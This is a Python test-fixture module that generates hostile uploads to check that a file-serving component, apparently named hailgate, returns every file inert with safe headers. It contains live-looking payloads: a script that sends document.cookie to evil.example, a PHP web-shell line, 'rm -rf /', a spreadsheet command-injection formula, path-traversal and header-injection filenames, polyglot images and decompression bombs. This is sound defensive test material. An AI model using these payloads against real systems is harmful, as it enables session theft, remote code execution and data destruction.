"""Files that try to be taken for something else, or to cost more than they weigh."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from email.message import Message
from itertools import cycle, islice

from PIL import Image

from hailgate.core.media import INLINE

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
NAMES = [
    "photo.jpg", "invoice.pdf.html", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "x.svg",
    "name\r\nSet-Cookie: a=b.png", 'quote".html', "tab\tname.png", "\u202egpj.exe", "zero\u200bwidth.png", "C:\\a.htm",
    "a;filename=b.html", "%2e%2e%2f.html", "con.jpg", ".htaccess", "\uff46ull.html", "x" * 500 + ".html", "",
    "\U0001f600.png",
    "<img src=x onerror=alert(1)>.png", "{{7*7}}.html", "a\x00b.html", "~/.ssh/id_rsa", "photo.jpg ",
]  # fmt: skip


def picture(format_: str, size: tuple[int, int] = (8, 6)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, format_)
    return out.getvalue()


PNG, JPEG, GIF, WEBP = (picture(each) for each in ("PNG", "JPEG", "GIF", "WEBP"))


def png_of(width: int, height: int) -> bytes:
    """A few bytes that unfold to width times height."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    place = JPEG.index(b"\xff\xc0")
    return JPEG[: place + 5] + struct.pack(">HH", height, width) + JPEG[place + 9 :]


def gif_of(width: int, height: int) -> bytes:
    return GIF[:6] + struct.pack("<HH", width, height) + GIF[10:]


def webp_of(width: int, height: int) -> bytes:
    canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + canvas
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def bombs() -> list[bytes]:
    """Pictures that must be refused before anybody unfolds them."""
    sizes = [(50_000, 50_000), (65_000, 900), (1, 30_000), (20_001, 1), (8_000, 8_000), (16_000, 16_000)]
    made = [make(*size) for size in sizes for make in (png_of, jpeg_of, gif_of, webp_of)]
    return [*made, png_of(2**31 - 1, 2**31 - 1), png_of(0x7FFFFFFF, 1)]


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * 20_000_000)
    return out.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def contents() -> Iterator[bytes]:
    """Active or double-faced; no bombs."""
    active = [
        HTML, SVG, SCRIPT, b"\xef\xbb\xbf" + HTML, b" \r\n\t" + HTML, HTML.decode().encode("utf-16"), HTML.upper(),
        SVG[21:], b"<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?><a/>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT, b"<math><mtext>" + SCRIPT, b"#!/bin/sh\nrm -rf /\n",
        b"alert(document.domain)//", b"MZ\x90\0" + b"\0" * 100, b"\x7fELF" + b"\0" * 100,
        b"%PDF-1.4\n/JS (app.alert(1))",
        b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML,
        b"CWS\x09" + b"\0" * 60, b"FWS\x09" + b"\0" * 60,
        b"=cmd|'/c calc'!A0,1,2\n", b"BEGIN:VCARD\nURL:javascript:alert(1)\nEND:VCARD\n", b"{\\rtf1 {\\object}}",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", zip_bomb(), b"\0", b"\xff" * 40,
        b"\x1f\x8b\x08" + b"\0" * 40, b"caff" + b"\0" * 40,
        b"\xca\xfe\xba\xbe" + b"\0" * 40,
    ]  # fmt: skip
    pictures = [PNG, JPEG, GIF, WEBP]
    yield from active
    for face in pictures:
        for hidden in (HTML, SVG, SCRIPT, b"<?php system($_GET[0]);", zip_bomb()[-2000:]):
            yield face + hidden
            yield hidden + face
    for hidden in (HTML, SVG):
        yield JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(hidden) + 2) + hidden + JPEG[2:]
        yield PNG[:33] + _chunk(b"tEXt", b"Comment\0" + hidden) + PNG[33:]
        yield b"GIF89a/*" + hidden + b"*/=1;" + hidden
        yield b"\xff\xd8\xff\xe0" + hidden
        yield b"\x89PNG\r\n\x1a\n" + hidden
        yield b"RIFF\x00\x10\x00\x00WEBPVP8 " + hidden
        yield b"%PDF-1.7\n" + hidden
        yield b"OggS\0" + hidden
        yield b"ID3\x03" + hidden
        yield b"\0\0\0\x18ftypmp42" + hidden


def hostile_files(count: int = 200) -> list[tuple[str, bytes]]:
    """Every content under several names, bombs among them."""
    files = [*contents(), *bombs(), b""]
    return list(islice(zip(cycle(NAMES), cycle(files), strict=False), max(count, len(files) * 2)))


def check_inert(headers: Mapping[str, str]) -> None:
    """Whatever a file is and however it is called, no browser runs it, shows it as a page, or saves it elsewhere."""
    kind = headers["Content-Type"]
    assert kind in INLINE or kind.startswith(("audio/", "video/", "application/", "text/plain"))
    assert not any(active in kind for active in ("html", "svg", "xml", "script", "flash"))
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]
    assert "default-src 'none'" in headers["Content-Security-Policy"]
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert "no-store" in headers["Cache-Control"]
    assert "Set-Cookie" not in headers
    disposition = headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    parsed = Message()
    parsed["Content-Disposition"] = disposition
    name = parsed.get_filename()
    assert name
    assert not set(name) & set('/\\:*?"<>|\r\n\t\0\u202e\u200b')
    assert not name.startswith(".")
    assert len(name) <= 160
